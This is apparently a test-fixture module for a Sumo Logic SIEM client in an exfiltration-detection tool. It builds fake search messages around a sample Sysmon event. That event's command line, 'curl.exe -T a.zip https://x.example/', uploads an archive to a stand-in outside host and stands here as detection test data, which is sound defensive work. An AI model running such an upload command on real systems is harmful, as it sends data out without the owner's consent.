"""Messages for the tests of Sumo Logic, and its client."""

import json
from typing import Any

from exfilwatch.siem.sumo import Sumo
from exfilwatch.siem.sumo_settings import SumoSettings

from .fake_sumo import ID, KEY, FakeSumo
from .fetching import Naps

T0 = 1_773_306_842_000  # ms


MS = 1_000  # µs


CURL = "C:\\Windows\\System32\\curl.exe"


COLLECTED = {
    "TimeCreated": "2026-03-12T09:14:02+123000000Z",
    "EventID": "1",
    "Channel": "Microsoft-Windows-Sysmon/Operational",
    "Provider": {"Name": "Microsoft-Windows-Sysmon"},
    "Computer": "WS1.corp.example",
    "EventRecordID": 4711,
    "EventData": {"Image": CURL, "CommandLine": "curl.exe -T a.zip https://x.example/"},
}


def message(
    ms: int = T0, received: int | None = None, searchable: int | None = None, **more: object
) -> dict[str, object]:
    received = ms + 2_000 if received is None else received
    return {
        "_messagetime": ms,
        "_receipttime": received,
        "_searchabletime": received + 3_000 if searchable is None else searchable,
        "_messageid": "-9223372036854773763",
        "_raw": json.dumps(COLLECTED),
        "_sourcehost": "collector",
        "_sourcecategory": "windows/sysmon",
        **more,
    }


def client(server: FakeSumo, sleep: Naps | None = None, **settings: Any) -> Sumo:
    made = {"url": server.url, "access_id": ID, "access_key": KEY, "scopes": ("_sourceCategory=windows/*",), **settings}
    return Sumo("sl", SumoSettings.model_validate(made), sleep=sleep or Naps())
